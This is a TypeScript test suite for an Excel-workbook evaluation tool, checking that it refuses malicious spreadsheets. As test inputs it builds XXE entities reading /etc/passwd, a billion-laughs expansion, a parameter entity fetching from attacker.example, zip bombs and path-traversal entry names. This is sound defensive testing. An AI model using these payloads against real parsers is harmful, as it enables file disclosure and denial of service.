import { deflateSync } from 'fflate';
import { prepareEvaluation } from '../../src/actions/evaluate';
import { packEntry, writeZip } from '../../src/workbook/xlsx/zip/write-zip';
import { buildWorkbook } from '../excel';
import { district } from '../soak/district';
import { openInExcel } from '../support/excel-workbook';
import { inFull } from '../support/in-full';
import { fileOf, sheetData, worksheet } from '../workbook/xlsx/sheet-file';
import { LONGEST_TEXT } from './hostile-texts';
import { hostileWorkbook } from './hostile-workbook';
import { runOn, type Run } from './run-on';

const text = (value: string): Uint8Array => new TextEncoder().encode(value);
const cell = (address: string, value: string): string => `<c r="${address}" t="str"><v>${value}</v></c>`;
const TABLE = [
  ['Đơn vị', 'Hồ sơ tiếp nhận', 'Hồ sơ số hoá thành phần khi tiếp nhận', 'Tỷ lệ số hoá khi tiếp nhận'],
  ['Xã A', '100', '90', '90%'],
  ['Xã B', '50', '50', '100%'],
]
  .map(
    (row, r) =>
      `<row r="${r + 1}">${row.map((value, c) => cell(`${'ABCD'[c]}${r + 1}`, value)).join('')}</row>`,
  )
  .join('');

/** One line on stderr, nothing written, nothing printed. */
function expectRefused(run: Run): void {
  expect(run).toMatchObject({ code: 2, out: '', files: [] });
  expect(run.err).toMatch(/^[^\n]+\n$/);
  expect(run.err).not.toMatch(/\bat \S+:\d+|Error:/);
}

/** Bytes held beyond what was held before, after a run. */
async function held(act: () => Promise<unknown>): Promise<number> {
  const before = process.memoryUsage().rss;
  await act();
  return process.memoryUsage().rss - before;
}

const MEGABYTE = 1024 * 1024;
/** Ten million bytes, in the sample one; no word of it is known. */
const LONG = 'Đ'.repeat(inFull(5_000_000, 500_000));
const EVALUATE = ['--json', '--month', '2023-08'];

describe('XML that reaches for more than the file', () => {
  const ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>';
  const LAUGHS = `<!DOCTYPE x [<!ENTITY a "${'ha'.repeat(50)}">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'bcdefghij'[i]} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]>`;
  const withHead = (xml: string, head: string): string => xml.replace(/^<\?xml.*?\?>\n/, head);

  it.each([
    ['an external entity in a sheet', withHead(sheetData(TABLE.replace('Xã A', '&e;')), ENTITY)],
    ['a billion laughs', withHead(sheetData(TABLE.replace('Xã A', '&j;')), LAUGHS)],
    [
      'a parameter entity',
      withHead(sheetData(TABLE), '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x">%p;]>'),
    ],
    ['an entity nobody declared', sheetData(TABLE.replace('Xã A', '&nbsp;'))],
    ['five thousand levels', worksheet(`${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}`)],
    ['a tag that never closes', worksheet(`<sheetData>${TABLE}`)],
  ])('%s is refused', async (_, xml) => {
    expectRefused(await runOn(await fileOf({ sheets: { T8: xml } }), ...EVALUATE));
  });

  it('is refused in the text table, the styles, the relations and the workbook alike', async () => {
    const parts = {
      'xl/workbook.xml': `${ENTITY}<workbook>&e;</workbook>`,
      'xl/_rels/workbook.xml.rels': `${ENTITY}<Relationships>&e;</Relationships>`,
      '[Content_Types].xml': `${ENTITY}<Types>&e;</Types>`,
    };
    for (const [name, xml] of Object.entries(parts))
      expectRefused(
        await runOn(await fileOf({ sheets: { T8: sheetData(TABLE) }, extra: { [name]: xml } }), ...EVALUATE),
      );
    const sheets = { T8: sheetData(TABLE) };
    for (const part of ['sharedStrings', 'styles'] as const) {
      const extra = { [`xl/${part}.xml`]: `${ENTITY}<x>&e;</x>` };
      expectRefused(await runOn(await fileOf({ sheets, [part]: '', extra }), ...EVALUATE));
    }
  });

  it('is never fetched: a relation to another computer is kept, not followed', async () => {
    const extra = {
      'xl/worksheets/_rels/sheet1.xml.rels':
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://attacker.example/" TargetMode="External"/></Relationships>',
    };
    const run = await runOn(await fileOf({ sheets: { T8: sheetData(TABLE) }, extra }), ...EVALUATE);
    expect(run).toMatchObject({ code: 0, err: '' });
  });
});

describe('files that are small on the disk', () => {
  /** `size` zeros, said to be `declared` bytes. */
  const bomb = (size: number, declared: number): Uint8Array =>
    writeZip([
      {
        ...packEntry('xl/worksheets/sheet1.xml', new Uint8Array()),
        packed: deflateSync(new Uint8Array(size), { level: 9 }),
        size: declared,
        crc: 0,
        method: 8,
      },
    ]);

  it.each([
    ['a part that says it is 400 MB', () => bomb(MEGABYTE, 400 * MEGABYTE)],
    ['zeros packed a thousand to one', () => bomb(70 * MEGABYTE, 70 * MEGABYTE)],
    ['a part that unpacks to more than it says', () => bomb(20 * MEGABYTE, 1000)],
    ['a file inside itself', () => writeZip([packEntry('a.zip', bomb(MEGABYTE, MEGABYTE))])],
    ['names that climb out of the folder', () => writeZip([packEntry('../../x.xml', text('<x/>'))])],
  ])('%s: refused', async (_, make) => {
    const bytes = make();
    let run: Run | undefined;
    const grown = await held(async () => (run = await runOn(bytes, ...EVALUATE)));
    expectRefused(run as Run);
    expect(grown).toBeLessThan(150 * MEGABYTE);
  });

  it.each([
    ['the last row of the grid in use', `${TABLE}<row r="1048576">${cell('A1048576', 'x')}</row>`],
    ['a used range of the whole grid', TABLE, '<dimension ref="A1:XFD1048576"/>'],
    [
      'formats on every column',
      TABLE,
      '<cols><col min="1" max="16384" width="9" hidden="1" style="0"/></cols>',
    ],
    [
      'two hundred thousand empty rows with formats',
      TABLE +
        Array.from({ length: 200_000 }, (_, i) => `<row r="${i + 10}" s="0" customFormat="1"/>`).join(''),
    ],
  ])('%s: read within bounds', async (_, rows, head = '') => {
    const bytes = await fileOf({ sheets: { T8: worksheet(`${head}<sheetData>${rows}</sheetData>`) } });
    let run: Run | undefined;
    const grown = await held(async () => (run = await runOn(bytes, ...EVALUATE)));
    expect(run).toMatchObject({ code: 0, err: '' });
    expect(grown).toBeLessThan(600 * MEGABYTE);
  });

  it('millions of bytes of text in a cell nobody reads stay out of what we write', async () => {
    const rows = `${TABLE}<row r="20">${cell('F20', LONG)}</row>`;
    const bytes = await fileOf({ sheets: { T8: sheetData(rows) } });
    const run = await runOn(bytes, ...EVALUATE);
    expect(run).toMatchObject({ code: 0, err: '' });
    expect(run.letter.length).toBeLessThan(MEGABYTE);
  });

  it.each([
    ['the name of a unit', TABLE.replace('Xã A', LONG)],
    ['a heading', TABLE.replace('Tỷ lệ số hoá', `Tỷ lệ số hoá ${LONG}`)],
    ['a figure', TABLE.replace('90%', LONG)],
    [
      'a title',
      `<row r="1">${cell('A1', LONG)}</row>${TABLE.replace(/r="([A-D]?)(\d)"/g, (_, column: string, row: string) => `r="${column}${Number(row) + 1}"`)}`,
    ],
  ])('millions of bytes as %s: taken or refused, in bounded time and memory', async (_, rows) => {
    const bytes = await fileOf({ sheets: { T8: sheetData(rows) } });
    const started = performance.now();
    let run: Run | undefined;
    const grown = await held(async () => (run = await runOn(bytes, ...EVALUATE)));
    if (run?.code === 0) expect(run.workbook.length).toBeLessThan(2 * MEGABYTE);
    else expectRefused(run as Run);
    expect(grown).toBeLessThan(600 * MEGABYTE);
    expect(performance.now() - started).toBeLessThan(30_000);
  });

  it('a unit of 32,767 letters: what would be said of it fits no cell, so the file is refused', async () => {
    expectRefused(await runOn(await hostileWorkbook({ units: [LONGEST_TEXT, 'Xã B'] }), '--json'));
  });

  it.each([
    ['a field', { units: ['Xã A'], fields: [LONGEST_TEXT.slice(0, 10_000)] }],
    ['a note', { units: ['Xã A'], notes: [LONGEST_TEXT] }],
    ['a title', { units: ['Xã A'], title: LONGEST_TEXT }],
  ])('as long a text as %s is taken', async (_, month) => {
    const run = await runOn(await hostileWorkbook(month), '--json');
    expect(run).toMatchObject({ code: 0, err: '' });
    expect(run.out).toContain('Xã A');
  });
});

describe('a thousand columns', () => {
  it('are looked through in moderate time', async () => {
    const letters = (n: number): string =>
      (n < 26 ? '' : letters(Math.floor(n / 26) - 1)) + String.fromCharCode(65 + (n % 26));
    const wide = Array.from({ length: 3 }, (_, r) => {
      const cells = Array.from({ length: 1000 }, (__, c) =>
        cell(`${letters(c)}${r + 1}`, r === 0 ? 'Tỷ lệ số hoá khi tiếp nhận' : '90%'),
      );
      return `<row r="${r + 1}">${cells.join('')}</row>`;
    });
    const started = performance.now();
    const run = await runOn(await fileOf({ sheets: { T8: sheetData(wide.join('')) } }), ...EVALUATE);
    expectRefused(run);
    expect(performance.now() - started).toBeLessThan(30_000);
  });
});

describe('a value in the last row of a sheet open in Excel', () => {
  it('makes the review read no more than without it', async () => {
    const read = async (stray: boolean): Promise<{ findings: number; bytes: number }> => {
      const book = buildWorkbook(district());
      const sheet = book.sheet('T8');
      if (stray) sheet.put(1_048_575, 0, { value: 'x', format: sheet.cell(1_048_575, 0).format });
      const { workbook, host } = openInExcel(book);
      const period = { year: 2023, month: 8 };
      const prepared = await prepareEvaluation(workbook, { now: '', preset: 'letter-2023-08', period });
      if ('unclear' in prepared) throw new Error(prepared.unclear);
      const bytes = host.batches.reduce((sum, batch) => sum + batch.requestBytes + batch.responseBytes, 0);
      return { findings: prepared.evaluation.findings.length, bytes };
    };
    const plain = await read(false);
    expect(plain.findings).toBeGreaterThan(0);
    expect(await read(true)).toEqual(plain);
  });
});
